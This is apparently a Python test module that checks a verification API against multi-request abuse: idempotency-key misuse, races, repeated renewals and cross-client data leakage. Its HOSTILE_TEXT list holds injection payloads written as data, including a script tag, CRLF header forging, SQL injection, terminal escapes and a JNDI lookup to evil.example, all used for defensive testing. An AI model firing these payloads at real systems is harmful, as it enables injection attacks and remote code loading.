"""Attacks on the API that take more than one request."""

from __future__ import annotations

import json
import random
import threading
import time
from collections.abc import Callable
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

from tests.attack.client_bodies import image
from tests.attack.rows import Outcome, Row
from tests.support.api import Api, ApiError
from tools import http_client
from tools.demo import samples
from tools.demo.samples import Sample

if TYPE_CHECKING:
    from tests.attack.client import Ground

HOSTILE_TEXT = (
    "<script>alert(1)</script>", "\x1b]0;owned\x07", "line\r\nFORGED: 1", "\u202eevil", "a\x00b",
    "\x7f\u2028\u009b", "' OR 1=1--", "${jndi:ldap://evil.example/a}", "{0.__class__}", "😀",
)  # fmt: skip


def _request(**changes: Any) -> dict[str, Any]:
    return {"check": "photo", "inputs": {"image": image()}, **changes}


def _status(work: Callable[[], object]) -> int:
    try:
        work()
    except ApiError as error:
        return error.status
    return 0


def idempotency_of_two_clients(ground: Ground) -> Outcome:
    key = f"attack-{time.time_ns()}"
    first = ground.first.create(_request(), key)["id"]
    second = ground.second.create(_request(), key)["id"]
    again = ground.first.create(_request(), key)["id"]
    other = _status(lambda: ground.first.create(_request(reference="other"), key))
    right = first != second and again == first and other == 422
    return Outcome(f"two ids: {first != second}, again the same: {again == first}, "
                   f"another body: {other}", right)  # fmt: skip


def idempotency_race(ground: Ground) -> Outcome:
    key, ids, odd = f"race-{time.time_ns()}", set(), []

    def create() -> None:
        try:
            ids.add(ground.first.create(_request(), key)["id"])
        except (ApiError, OSError) as error:
            odd.append(str(error))

    threads = [threading.Thread(target=create) for _ in range(5)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return Outcome(f"{len(ids)} ids, {len(odd)} refused", len(ids) == 1 and not odd)


def renewed_without_end(ground: Ground) -> Outcome:
    made = ground.first.create(_request())
    answers = [_status(lambda: ground.first.renew(made["id"])) for _ in range(11)]
    return Outcome(str(answers), answers[0] == 0 and answers[-1] == 409)


def resent_too_early(ground: Ground) -> Outcome:
    status = _status(lambda: ground.first.resend(ground.verification))
    return Outcome(str(status), status == 409)


def hostile_text(ground: Ground) -> Outcome:
    """It comes back as it was, the webhook has it in ASCII, and no log line has it."""
    mark = f"attack{time.time_ns()}"
    texts = {str(number): mark + text for number, text in enumerate(HOSTILE_TEXT)}
    photo = samples.photo("photographed", random.Random())
    made = ground.first.create(
        {
            "check": "photo",
            "inputs": {"image": photo.declaration()},
            "reference": mark + "\u202e\x1b[31m\r\nFORGED",
            "metadata": texts,
        }
    )
    _put(made, photo)
    seen = _delivered(ground.first, made["id"])
    received = [
        webhook
        for webhook in ground.cloud.receiver.received()
        if webhook.verification_id() == made["id"]
    ]
    same = seen["metadata"] == texts
    ascii_body = all(webhook.body.isascii() and webhook.verified for webhook in received)
    logged = mark in (ground.cloud.logs / "functions.log").read_text("utf-8", "replace")
    return Outcome(
        f"same: {same}, webhooks: {len(received)} in ASCII and verified: {ascii_body}, "
        f"in the functions' log: {logged}",
        same and len(received) == 1 and ascii_body and not logged,
    )


def lists_of_one_client(ground: Ground) -> Outcome:
    """A list with every filter of the API shows one client nothing of another."""
    ground.second.create(_request(reference="of the second"))
    queries: tuple[dict[str, str], ...] = (
        {},
        {"status": "awaiting_upload"},
        {"limit": "100"},
        {"limit": "1"},
    )
    is_listed = 0
    for query in queries:
        answer = ground.ask(
            "GET", f"/v1/verifications?{urlencode(query)}",
            [("Authorization", f"Bearer {ground.keys['first']}")],
        )  # fmt: skip
        is_listed += b"of the second" in answer.body
    return Outcome(f"{is_listed} of {len(queries)} lists show it", is_listed == 0)


def _put(made: dict[str, Any], photo: Sample) -> None:
    answer = http_client.put(made["uploads"]["image"], photo.data)
    assert answer.status == 200, answer.body


def _delivered(api: Api, verification: str, seconds: float = 45) -> dict[str, Any]:
    ends = time.monotonic() + seconds
    while True:
        seen = api.read(verification)
        if seen["delivery"] and seen["delivery"]["state"] == "delivered":
            return seen
        assert time.monotonic() < ends, json.dumps(seen)
        time.sleep(0.2)


STORIES = (
    Row("Idempotency-Key of two clients", "two verifications; again the same; 422 for another body",
        idempotency_of_two_clients),
    Row("Idempotency-Key, five at once", "1 id", idempotency_race),
    Row("renewed eleven times", "an end with 409", renewed_without_end),
    Row("resent before there is a decision", "409", resent_too_early),
    Row("hostile text in reference and metadata", "the same back, an ASCII webhook, no log line",
        hostile_text),
    Row("lists of one client", "nothing of another", lists_of_one_client),
)  # fmt: skip
